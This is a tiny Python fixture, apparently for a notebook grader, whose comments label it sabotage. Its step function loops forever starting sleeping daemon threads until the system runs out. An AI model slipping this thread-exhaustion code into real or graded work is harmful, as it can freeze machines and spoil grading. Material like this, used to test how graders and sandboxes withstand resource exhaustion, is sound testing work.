# sabotage: Starts threads until there are none left.
# must: loses step

# %% nbgrader={"grade_id": "step"}
import threading, time
def step(x):
    while True:
        try: threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except RuntimeError: pass
